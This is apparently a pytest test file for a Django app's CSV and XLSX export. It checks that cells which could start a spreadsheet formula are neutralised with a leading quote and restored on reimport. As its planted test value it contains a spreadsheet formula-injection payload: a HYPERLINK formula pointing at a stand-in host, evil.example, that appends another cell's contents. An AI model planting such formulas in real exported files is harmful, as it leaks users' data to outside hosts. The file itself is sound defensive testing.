"""Formula injection: no exported cell starts a formula, in CSV or XLSX, of any kind, whatever the register holds.

Every table the app writes goes through ``cordon.core.tables`` (``write_csv``, ``write_xlsx``), which puts a
single quote before text a spreadsheet would run (OWASP's advice); the value stays readable.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from cordon.apps.dataio import selectors
from cordon.apps.geo.models import Building, Jurisdiction
from cordon.apps.people.models import Household, Person
from cordon.apps.venues.models import Venue
from cordon.core import tables

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]


def _plant(city: Any) -> None:
    """Put a formula in one text column of every kind (test setup, straight to the tables)."""
    Jurisdiction.objects.filter(pk=city.fengtai.pk).update(name=EVIL)
    Building.objects.filter(pk=city.ft_building.pk).update(address=EVIL)
    Household.objects.filter(pk=city.ft_household.pk).update(unit=EVIL)
    Person.objects.filter(pk=city.ft_person.pk).update(name=EVIL, occupation="@SUM(A1)")
    Venue.objects.filter(pk=city.ft_venue.pk).update(name=EVIL, responsible_unit="+86 10 1234")


def _cells(kind: str, fmt: str, body: bytes) -> list[Any]:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f" or c.value is not None]


@pytest.mark.parametrize("fmt", selectors.FORMATS)
@pytest.mark.parametrize("kind", list(selectors.KINDS))
def test_no_export_cell_starts_a_formula(
    city: Any, make_user: Any, client_for: Any, kind: str, fmt: str, exported: Any
) -> None:
    _plant(city)
    response = exported(client_for(make_user("administrator", city.city)), f"/data/export/{kind}.{fmt}")
    assert response.status_code == 200
    cells = _cells(kind, fmt, b"".join(response.streaming_content))
    assert f"'{EVIL}" in cells  # kept, readable, behind a quote
    assert not [c for c in cells if isinstance(c, str) and c.startswith(tables.FORMULA_STARTS)]


def test_xlsx_export_holds_no_formula_cell(city: Any, make_user: Any, client_for: Any, exported: Any) -> None:
    _plant(city)
    response = exported(client_for(make_user("administrator", city.city)), "/data/export/persons.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet is not None
    kinds = {c.data_type for row in sheet.iter_rows() for c in row}
    assert "f" not in kinds and "s" in kinds


@pytest.mark.parametrize("text", STARTS)
def test_every_formula_start_is_neutralised_and_plain_values_are_not(text: str) -> None:
    assert tables.neutral(text) == "'" + text
    assert tables.neutral("张伟") == "张伟"
    assert tables.neutral(-1.5) == -1.5  # numbers are numbers, not text
    assert tables.neutral(None) == ""


def test_only_the_core_writer_writes_tables() -> None:
    """One writer: no other module of the app makes a CSV writer or an XLSX workbook of its own."""
    src = Path(tables.__file__).resolve().parents[1]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    found = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "tables.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []


@pytest.mark.parametrize("fmt", selectors.FORMATS)
def test_an_exported_file_reads_back_as_it_was(
    city: Any, make_user: Any, client_for: Any, fmt: str, exported: Any
) -> None:
    """The importer reads the quote off again: a register exported and imported elsewhere keeps its values."""
    _plant(city)
    response = exported(client_for(make_user("administrator", city.city)), f"/data/export/persons.{fmt}")
    _header, rows = tables.read_table(b"".join(response.streaming_content), f"persons.{fmt}")
    cells = [c for _n, row in rows for c in row]
    assert EVIL in cells and "@SUM(A1)" in cells
    assert not [c for c in cells if c.startswith("'")]


@pytest.mark.parametrize("text", [*STARTS, "'", "'plain", "it's", "", "x"])
def test_reading_back_undoes_exactly_the_quote_the_export_adds(text: str) -> None:
    assert tables.restored(tables.neutral(text)) == text
